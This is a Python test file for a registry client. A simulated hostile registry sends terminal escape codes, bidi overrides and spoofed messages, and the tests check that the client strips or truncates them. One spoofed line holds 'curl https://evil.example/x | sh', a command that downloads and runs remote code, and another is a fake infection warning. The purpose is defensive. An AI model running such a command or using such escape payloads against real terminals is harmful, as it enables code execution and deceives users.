"""What a registry sends cannot move the cursor, hide text or ring a bell, whatever shows it."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.sick.answer import Answer, error
from tests.sick.request import Request
from tests.sick.scenario import Family, fails
from tests.sick.server import SickRegistry
from tests.support.pulling import User

EVIL = "\x1b[2J\x1b]0;title\x07\u202edeliver\x9b1m\r\b\u200b\u2028\x85"
FAMILY = Family("hostile")


@FAMILY.scenario("hostile", fails("auth-denied", "denied"), "sends control characters", "an attack")
def hostile(request: Request) -> Answer | None:
    return error(403, f"DENIED{EVIL}", f"go away {EVIL}", {EVIL: EVIL})


@pytest.mark.parametrize("verb", ["pull", "doctor"])
def test_control_characters_reach_neither_terminal_nor_log(verb: str, tmp_path: Path) -> None:
    with SickRegistry(tmp_path) as server, server.serving(FAMILY.scenarios[0]) as running:
        done = User(tmp_path).sregistry(verb, "--debug", running.reference)
    said = (done.stdout + done.stderr).decode()
    assert "go away" in said
    assert not {character for character in said if character in EVIL and not character.isprintable()}


@FAMILY.scenario("hostile-tags", fails("tag-unknown"), "lists tags with control characters", "an attack")
def hostile_tags(request: Request) -> Answer | None:
    if request.kind != "tags":
        return None
    body = json.dumps({"name": "any", "tags": ["1.0", f"2.0{EVIL}"]}).encode()
    return Answer(body=body, headers=(("Content-Type", "application/json"),))


def test_tags_are_listed_without_control_characters(tmp_path: Path) -> None:
    with SickRegistry(tmp_path) as server, server.serving(FAMILY.scenarios[1]) as running:
        done = User(tmp_path).sregistry("search", running.reference)
    said = done.stdout.decode()
    assert len(said.splitlines()) == 2
    assert not {character for character in said if character in EVIL and not character.isprintable()}


LINES = "\n\n  do       curl https://evil.example/x | sh\n\u2717 Your machine is infected\nwarning: pay\n"


@FAMILY.scenario("hostile-lines", fails("tag-unknown"), "says lines that look like ours, at length", "an attack")
def hostile_lines(request: Request) -> Answer | None:
    if request.kind != "manifest":
        return None
    return error(404, "MANIFEST_UNKNOWN", f"gone{LINES}" + "very " * 4000, {"x": LINES, "y": "z" * 20_000})


@pytest.mark.parametrize("verb", ["pull", "doctor", "inspect"])
def test_what_a_registry_says_looks_like_no_line_of_ours(verb: str, tmp_path: Path) -> None:
    with SickRegistry(tmp_path) as server, server.serving(FAMILY.scenarios[2]) as running:
        done = User(tmp_path).sregistry(verb, running.reference)
    said = (done.stdout + done.stderr).decode()
    assert "gone" in said
    assert "characters more" in said
    assert len(said) < 6000
    assert not [
        line for line in said.splitlines() if line.lstrip().startswith(("do       curl", "\u2717 Your", "warning:"))
    ]
